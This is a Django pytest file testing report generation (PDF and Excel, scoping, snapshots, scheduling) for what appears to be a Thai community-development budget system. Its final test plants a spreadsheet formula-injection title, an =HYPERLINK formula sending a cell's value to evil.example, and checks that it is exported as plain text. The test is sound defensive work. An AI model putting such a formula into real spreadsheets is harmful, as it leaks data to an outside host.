import datetime as dt
import hashlib
import io
import re
import shutil
import subprocess
from decimal import Decimal

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.db.models import Sum
from django.utils import timezone
from openpyxl import load_workbook

from accounts.tests.factories import central_staff, community_rep, provincial_coordinator, regional_staff
from areas.models import Province, Region
from budgets.models import SpendingActual, SpendingPlanLine
from conftest import _require
from reports import selectors, services, snapshot
from reports.models import Report, ReportKind, ReportStatus
from reports.scopes import COUNTRY, Scope, parse_scope
from reports.wording import WORDS

from .conftest import pdf_pages, pdf_text, thai_key
from .factories import FISCAL_YEAR, funded_request, sample_year

pytestmark = pytest.mark.django_db
D = Decimal


@pytest.fixture
def data(reference_data):
    return sample_year()


@pytest.fixture
def staff(reference_data):
    return central_staff(username="staff", email="staff@example.org")


def ask(django_capture_on_commit_callbacks, *, by, kind=ReportKind.PROGRESS, scope=COUNTRY, quarter=2, **kwargs):
    """Ask for a report the way a view does, and run its (eager) build when the request commits."""
    with django_capture_on_commit_callbacks(execute=True):
        report, created = services.request_report(
            kind=kind,
            scope=scope,
            fiscal_year=FISCAL_YEAR,
            quarter=quarter if kind == ReportKind.PROGRESS else None,
            by=by,
            **kwargs,
        )
    report.refresh_from_db()
    return report, created


def read(field) -> bytes:
    with field.open("rb") as f:
        return f.read()


def sheet_rows(xlsx: bytes, title: str) -> list[tuple]:
    book = load_workbook(io.BytesIO(xlsx), read_only=True)
    rows = [tuple(row) for row in book[title].iter_rows(values_only=True)]
    width = max(len(r) for r in rows)
    return [r + (None,) * (width - len(r)) for r in rows]


def total_row(rows: list[tuple]) -> tuple:
    return next(r for r in rows if r[1] == "รวมทั้งสิ้น")


# Asking: one report per content and data ---------------------------------------------------------


def test_asking_twice_for_the_same_report_on_the_same_data_gives_one_report(
    data, staff, django_capture_on_commit_callbacks
):
    first, created_first = ask(django_capture_on_commit_callbacks, by=staff)
    second, created_second = ask(django_capture_on_commit_callbacks, by=staff)

    assert (created_first, created_second) == (True, False)
    assert first.pk == second.pk
    assert Report.objects.count() == 1
    assert first.status == ReportStatus.DONE and first.attempts == 1


def test_people_who_see_the_same_data_share_one_report(data, staff, django_capture_on_commit_callbacks):
    viewer = central_staff(username="another-staff")
    mine, _ = ask(django_capture_on_commit_callbacks, by=staff)
    theirs, created = ask(django_capture_on_commit_callbacks, by=viewer)

    assert not created and theirs.pk == mine.pk


def test_a_change_in_the_data_files_a_new_report_and_the_filed_one_stays_as_it_was(
    data, staff, django_capture_on_commit_callbacks
):
    filed, _ = ask(django_capture_on_commit_callbacks, by=staff)
    filed_pdf, filed_xlsx = read(filed.pdf_file), read(filed.xlsx_file)
    filed_snapshot = read(filed.snapshot)

    line = SpendingActual.objects.filter(activity__request=data["cm1"], quarter=2).first()
    line.actual_amount += D("1000.00")
    line.save()
    newer, created = ask(django_capture_on_commit_callbacks, by=staff)

    assert created and newer.pk != filed.pk
    assert newer.data_fingerprint != filed.data_fingerprint
    filed.refresh_from_db()
    assert read(filed.pdf_file) == filed_pdf and read(filed.xlsx_file) == filed_xlsx
    assert read(filed.snapshot) == filed_snapshot
    assert hashlib.sha256(filed_pdf).hexdigest() == filed.pdf_sha256
    old_total = D(filed.source_summary["actual_total"])
    assert D(newer.source_summary["actual_total"]) == old_total + D("1000.00")


def test_the_fingerprint_is_the_sha256_of_the_stored_snapshot(data, staff, django_capture_on_commit_callbacks):
    report, _ = ask(django_capture_on_commit_callbacks, by=staff)
    stored = snapshot.load(read(report.snapshot))

    assert hashlib.sha256(snapshot.canonical_bytes(stored)).hexdigest() == report.data_fingerprint
    assert report.source_summary["requests"] == 4  # the draft is not in any report
    assert report.source_summary["activities"] == len([a for r in stored["requests"] for a in r["activities"]])


def test_a_progress_report_needs_its_quarter(data, staff):
    with pytest.raises(ValidationError, match="รายงานความก้าวหน้ารายไตรมาสต้องระบุไตรมาส") as error:
        services.request_report(
            kind=ReportKind.PROGRESS, scope=COUNTRY, fiscal_year=FISCAL_YEAR, quarter=None, by=staff
        )
    assert "quarter" in error.value.message_dict
    assert not Report.objects.exists()


def test_a_fiscal_year_outside_the_plan_years_is_refused(data, staff):
    with pytest.raises(ValidationError, match="ห่างจากปีนี้"):
        services.request_report(kind=ReportKind.PLAN, scope=COUNTRY, fiscal_year=2400, by=staff)


def test_a_coordinator_cannot_ask_for_another_provinces_report(data):
    coordinator = provincial_coordinator("50")
    with pytest.raises(PermissionDenied, match="คุณไม่มีสิทธิ์ขอรายงานของพื้นที่นี้"):
        services.request_report(
            kind=ReportKind.PLAN, scope=parse_scope("province", "51"), fiscal_year=FISCAL_YEAR, by=coordinator
        )
    assert not Report.objects.exists()


# Building: once, atomically, reproducibly ----------------------------------------------------------


def test_running_the_build_twice_leaves_the_files_unchanged(data, staff, django_capture_on_commit_callbacks):
    report, _ = ask(django_capture_on_commit_callbacks, by=staff)
    path = report.pdf_file.path
    before = (read(report.pdf_file), read(report.xlsx_file), report.finished_at)

    assert services.build_report(report_id=report.pk) is None
    report.refresh_from_db()
    assert (read(report.pdf_file), read(report.xlsx_file), report.finished_at) == before
    assert report.attempts == 1
    assert report.pdf_file.path == path


def test_a_rebuild_from_the_snapshot_is_byte_for_byte_the_first_build(data, staff, django_capture_on_commit_callbacks):
    report, _ = ask(django_capture_on_commit_callbacks, by=staff, kind=ReportKind.EVALUATION)
    files = services.render_files(report)

    assert hashlib.sha256(files["pdf"]).hexdigest() == report.pdf_sha256
    assert hashlib.sha256(files["xlsx"]).hexdigest() == report.xlsx_sha256


def test_a_report_held_by_a_live_build_is_left_alone_and_taken_over_when_its_lease_runs_out(data, staff):
    report, _ = services.request_report(kind=ReportKind.PLAN, scope=COUNTRY, fiscal_year=FISCAL_YEAR, by=staff)
    assert services.claim_report(report.pk) is not None  # a first worker took it, then died

    assert services.build_report(report_id=report.pk) is None
    Report.objects.filter(pk=report.pk).update(lease_expires_at=timezone.now() - dt.timedelta(seconds=1))
    built = services.build_report(report_id=report.pk)

    assert built.status == ReportStatus.DONE and built.attempts == 2


def test_a_build_that_lost_its_claim_does_not_file_its_work(data, staff):
    report, _ = services.request_report(kind=ReportKind.PLAN, scope=COUNTRY, fiscal_year=FISCAL_YEAR, by=staff)
    token = services.claim_report(report.pk)
    Report.objects.filter(pk=report.pk).update(lease_expires_at=timezone.now() - dt.timedelta(seconds=1))
    assert services.claim_report(report.pk) is not None  # another run takes over

    with pytest.raises(services.LostClaim):
        services.report_progress(report.pk, token, 50)


def test_asking_again_for_a_failed_report_builds_it_again(data, staff, django_capture_on_commit_callbacks):
    report, _ = services.request_report(kind=ReportKind.PLAN, scope=COUNTRY, fiscal_year=FISCAL_YEAR, by=staff)
    services.fail_report(report_id=report.pk, reason="the disk was full")
    report.refresh_from_db()
    assert report.status == ReportStatus.FAILED and report.status_reason == "the disk was full"

    again, created = ask(django_capture_on_commit_callbacks, by=staff, kind=ReportKind.PLAN)

    assert not created and again.pk == report.pk
    assert again.status == ReportStatus.DONE and again.status_reason == ""


# What the files say --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("kind", "heading", "sheet"),
    [
        (ReportKind.PLAN, "แผนการปฏิบัติงานและแผนการใช้จ่ายงบประมาณ", "แผนการใช้จ่าย"),
        (ReportKind.PROGRESS, "รายงานผลการปฏิบัติงานและผลการใช้จ่ายงบประมาณ", "ผลการใช้จ่าย"),
        (ReportKind.EVALUATION, "รายงานการประเมินผลการดำเนินงานประจำปี", "สรุปภาพรวม"),
    ],
)
def test_each_kind_of_report_has_its_pdf_and_excel_file(
    data, staff, django_capture_on_commit_callbacks, kind, heading, sheet
):
    report, _ = ask(django_capture_on_commit_callbacks, by=staff, kind=kind)
    pdf, xlsx = read(report.pdf_file), read(report.xlsx_file)

    assert pdf.startswith(b"%PDF-") and pdf_pages(pdf) >= 2
    text = thai_key(pdf_text(pdf))
    for expected in (heading, "สถาบันพัฒนาองค์กรชุมชน (องค์การมหาชน)", f"ปีงบประมาณ พ.ศ. {FISCAL_YEAR}", "หน้า 1 / "):
        assert thai_key(expected) in text
    assert sheet in load_workbook(io.BytesIO(xlsx), read_only=True).sheetnames
    assert report.pdf_file.name.endswith(".pdf") and report.xlsx_file.name.endswith(".xlsx")


def test_the_progress_pdf_holds_the_quarter_and_the_totals_of_the_database(
    data, staff, django_capture_on_commit_callbacks
):
    report, _ = ask(django_capture_on_commit_callbacks, by=staff, scope=parse_scope("province", "50"))
    text = thai_key(pdf_text(read(report.pdf_file)))
    in_scope = {"activity__request__province__code": "50", "activity__request__fiscal_year": FISCAL_YEAR}
    planned = SpendingPlanLine.objects.filter(quarter__lte=2, **in_scope).aggregate(s=Sum("planned_amount"))["s"]
    actual = (
        SpendingActual.objects.filter(quarter__lte=2, **in_scope)
        .exclude(activity__request__status="draft")
        .aggregate(s=Sum("actual_amount"))["s"]
    )
    planned -= SpendingPlanLine.objects.filter(quarter__lte=2, activity__request__status="draft", **in_scope).aggregate(
        s=Sum("planned_amount")
    )["s"]

    assert (planned, actual) == (D("110000.00"), D("94251.50"))  # worked out by hand in factories.sample_year
    for expected in ("ไตรมาสที่ 2", "จังหวัดเชียงใหม่", f"{planned:,.2f}", f"{actual:,.2f}", "210,000.00"):
        assert thai_key(expected) in text, expected
    assert thai_key("ย้ายกิจกรรมไปจัดในวันหยุด") in text  # remedies of the quarter
    assert thai_key("ตำบลที่เศรษฐกิจฐานรากได้รับการยกระดับ") in text  # the official indicator


def test_thai_words_of_the_data_are_found_as_typed_in_the_text_pdftotext_extracts(
    reference_data, staff, django_capture_on_commit_callbacks
):
    # Thai shaping reuses glyphs (SARA AM is drawn as NIKHAHIT + SARA AA, tone marks are repositioned), so a
    # glyph-to-text map alone gives "ปีงบประมำณ" and "นำ"; every drawn line carries its text as /ActualText.
    _require(shutil.which("pdftotext") is not None, "needs poppler-utils (apt-get install poppler-utils)")
    words = ["ตำบล", "น้ำ", "ปีงบประมาณ", "ผู้ใหญ่", "ที่"]
    funded_request(
        title="ประปาน้ำดื่มตำบลช้างคลาน",
        monitoring={2: {"progress": "ผู้ใหญ่บ้านที่ร่วมประชุมเห็นชอบแผนปีงบประมาณหน้า"}},
        by=staff,
    )
    report, _ = ask(django_capture_on_commit_callbacks, by=staff, scope=parse_scope("province", "50"))

    pdf = report.pdf_file.path
    text = subprocess.run(["pdftotext", "-enc", "UTF-8", pdf, "-"], capture_output=True, check=True, text=True).stdout
    for word in words:
        assert word in text, word
    assert "ประปาน้ำดื่มตำบลช้างคลาน" in text
    assert "ผู้ใหญ่บ้านที่ร่วมประชุม" in text
    assert "ปีงบประมำณ" not in text
    from weasyprint.draw import text as weasyprint_text

    assert not hasattr(weasyprint_text.draw_first_line.__wrapped__, "codi_actual_text")  # wrapped exactly once


def test_the_excel_file_reads_back_with_the_totals_of_the_database(data, staff, django_capture_on_commit_callbacks):
    report, _ = ask(django_capture_on_commit_callbacks, by=staff, kind=ReportKind.PLAN)
    xlsx = read(report.xlsx_file)
    committed = {"activity__request__fiscal_year": FISCAL_YEAR, "activity__request__status__in": ["in_execution"]}
    by_quarter = {
        q: SpendingPlanLine.objects.filter(quarter=q, **committed).aggregate(s=Sum("planned_amount"))["s"]
        for q in range(1, 5)
    }

    rows = sheet_rows(xlsx, "แผนการใช้จ่าย")
    total = total_row(rows)
    assert list(total[2:7]) == [by_quarter[1], by_quarter[2], by_quarter[3], by_quarter[4], sum(by_quarter.values())]
    assert all(isinstance(v, (int, float, Decimal)) for v in total[2:7])
    activity_rows = [r for r in rows if isinstance(r[0], str) and re.fullmatch(r"\d+\.\d+\.\d+", r[0])]
    assert sum(D(str(r[6])) for r in activity_rows) == sum(by_quarter.values())
    monthly = total_row(sheet_rows(xlsx, "แผนการใช้จ่ายรายเดือน"))
    assert D(str(monthly[-1])) == sum(by_quarter.values())
    summary = total_row(sheet_rows(xlsx, "สรุปภาพรวม"))
    assert summary[2] == 4 and D(str(summary[3])) == D("510000.00")


def test_the_excel_cells_carry_number_formats_and_thai_headers(data, staff, django_capture_on_commit_callbacks):
    report, _ = ask(django_capture_on_commit_callbacks, by=staff)
    book = load_workbook(io.BytesIO(read(report.xlsx_file)))
    sheet = book["ผลการใช้จ่าย"]
    header = next(r for r in sheet.iter_rows() if r[0].value == "ที่")
    assert [c.value for c in header][:3] == ["ที่", "แผนงาน / โครงการ / กิจกรรม", "แผน ไตรมาสนี้"]
    money = next(c for c in sheet["C"] if isinstance(c.value, (int, float, Decimal)))
    assert money.number_format == "#,##0.00"


def test_an_english_report_is_a_separate_report_in_english(data, staff, django_capture_on_commit_callbacks):
    thai, _ = ask(django_capture_on_commit_callbacks, by=staff)
    english, created = ask(django_capture_on_commit_callbacks, by=staff, language="en")

    assert created and english.pk != thai.pk and english.data_fingerprint == thai.data_fingerprint
    text = pdf_text(read(english.pdf_file))
    assert "Report on performance and spending" in text and "Page 1 / " in text
    assert english.xlsx_file.name.endswith("-en.xlsx")


def test_a_big_scope_sums_the_pdf_by_province_and_keeps_every_row_in_excel(
    data, staff, settings, django_capture_on_commit_callbacks
):
    settings.REPORTS_PDF_DETAIL_LIMIT = 2
    report, _ = ask(django_capture_on_commit_callbacks, by=staff)
    text = thai_key(pdf_text(read(report.pdf_file)))

    assert thai_key(WORDS["detail_in_excel"][0]) in text
    assert thai_key("ยกระดับเศรษฐกิจฐานรากตำบลช้างคลาน") not in text
    assert thai_key("จังหวัดลำพูน") in text
    rows = sheet_rows(read(report.xlsx_file), "ผลการใช้จ่าย")
    assert any(r[1] and "ยกระดับเศรษฐกิจฐานรากตำบลช้างคลาน" in r[1] for r in rows)


# Scope: a report holds only what its requester may see --------------------------------------------


def test_a_coordinators_report_holds_only_their_province(data, django_capture_on_commit_callbacks):
    coordinator = provincial_coordinator("50")
    report, _ = ask(django_capture_on_commit_callbacks, by=coordinator, kind=ReportKind.PLAN)
    stored = snapshot.load(read(report.snapshot))

    assert {r["province"] for r in stored["requests"]} == {"50"}
    assert report.audience_key == f"province:{coordinator.province_id}"
    text = thai_key(pdf_text(read(report.pdf_file)))
    assert thai_key("ยกระดับเศรษฐกิจฐานรากตำบลช้างคลาน") in text
    assert thai_key("เศรษฐกิจฐานรากตำบลในเมืองลำพูน") not in text
    xlsx_text = " ".join(str(v) for r in sheet_rows(read(report.xlsx_file), "แผนการใช้จ่าย") for v in r if v)
    assert "ลำพูน" not in xlsx_text and "กรุงเทพ" not in xlsx_text


def test_a_regional_report_holds_only_the_region(data, django_capture_on_commit_callbacks):
    north = regional_staff("north")
    report, _ = ask(
        django_capture_on_commit_callbacks,
        by=north,
        kind=ReportKind.PLAN,
        scope=Scope("region", Region.objects.get(key="north")),
    )
    stored = snapshot.load(read(report.snapshot))
    assert {r["province"] for r in stored["requests"]} == {"50", "51"}


def test_a_representatives_report_holds_the_requests_funding_their_tambons(data, django_capture_on_commit_callbacks):
    rep = community_rep("500106")
    report, _ = ask(django_capture_on_commit_callbacks, by=rep, kind=ReportKind.PLAN)
    stored = snapshot.load(read(report.snapshot))
    assert [r["title"] for r in stored["requests"]] == ["กองทุนสวัสดิการชุมชนตำบลวัดเกต"]


def test_a_workstream_report_holds_that_workstreams_requests(data, staff, django_capture_on_commit_callbacks):
    report, _ = ask(
        django_capture_on_commit_callbacks,
        by=staff,
        kind=ReportKind.PLAN,
        scope=parse_scope("workstream", "WS-WELFARE"),
    )
    stored = snapshot.load(read(report.snapshot))
    assert [r["title"] for r in stored["requests"]] == ["กองทุนสวัสดิการชุมชนตำบลวัดเกต"]


def test_the_snapshot_takes_the_same_number_of_queries_for_few_and_many_requests(
    data, staff, django_assert_num_queries, django_assert_max_num_queries
):
    with django_assert_max_num_queries(80) as few:  # a ceiling; what matters is that it does not grow
        snapshot.collect(kind=ReportKind.PROGRESS, scope=COUNTRY, fiscal_year=FISCAL_YEAR, quarter=2, user=staff)
    for i in range(12):
        funded_request(province=["50", "51", "10", "20"][i % 4], title=f"โครงการเพิ่ม {i}", by=staff)
    with django_assert_num_queries(len(few.captured_queries)):
        snapshot.collect(kind=ReportKind.PROGRESS, scope=COUNTRY, fiscal_year=FISCAL_YEAR, quarter=2, user=staff)


# Schedule and reminders -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("today", "expected"),
    [
        (dt.date(2026, 1, 1), (2569, 1)),
        (dt.date(2026, 4, 1), (2569, 2)),
        (dt.date(2026, 7, 1), (2569, 3)),
        (dt.date(2026, 10, 1), (2569, 4)),
        (dt.date(2026, 11, 20), (2569, 4)),
    ],
)
def test_the_quarter_just_ended(today, expected):
    assert services.quarter_just_ended(today) == expected


def test_the_scheduled_report_of_a_province_is_filed_once_and_seen_by_its_coordinator(
    data, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        first = services.file_scheduled_report(
            kind=ReportKind.PROGRESS, scope_key="province:50", fiscal_year=FISCAL_YEAR, quarter=2
        )
    with django_capture_on_commit_callbacks(execute=True):
        second = services.file_scheduled_report(
            kind=ReportKind.PROGRESS, scope_key="province:50", fiscal_year=FISCAL_YEAR, quarter=2
        )

    assert first.pk == second.pk and first.requested_by is None
    assert Report.objects.visible_to(provincial_coordinator("50")).filter(pk=first.pk).exists()
    assert not Report.objects.visible_to(provincial_coordinator("51")).filter(pk=first.pk).exists()


def test_the_schedule_covers_the_country_every_region_and_every_province(reference_data):
    scopes = selectors.scheduled_scopes()
    assert scopes[0] == "country"
    assert len(scopes) == 1 + Region.objects.count() + Province.objects.count()


def test_read_only_roles_read_reports_but_do_not_ask_for_them(data):
    from accounts.tests.factories import api_client_user, budget_viewer

    for reader in (budget_viewer(), api_client_user()):
        with pytest.raises(PermissionDenied, match="คุณไม่มีสิทธิ์ขอรายงานของพื้นที่นี้"):
            services.request_report(kind=ReportKind.PLAN, scope=COUNTRY, fiscal_year=FISCAL_YEAR, by=reader)


def test_text_that_looks_like_a_formula_is_text_in_the_report_workbook(
    reference_data, staff, django_capture_on_commit_callbacks
):
    """A title typed as =HYPERLINK(...) must reach the Budget Bureau's Excel as text, never as a live formula."""
    from codi_plans.tests.test_exports import assert_no_formula
    from reports.tests.factories import funded_request

    hostile = '=HYPERLINK("http://evil.example/steal?x="&A1,"คลิก")'
    funded_request(title=hostile, indicators=[("@SUM(1+1)", "+ครัวเรือน", "200", "180")])
    report, _ = ask(django_capture_on_commit_callbacks, by=staff, kind=ReportKind.PLAN)
    assert hostile in assert_no_formula(read(report.xlsx_file))
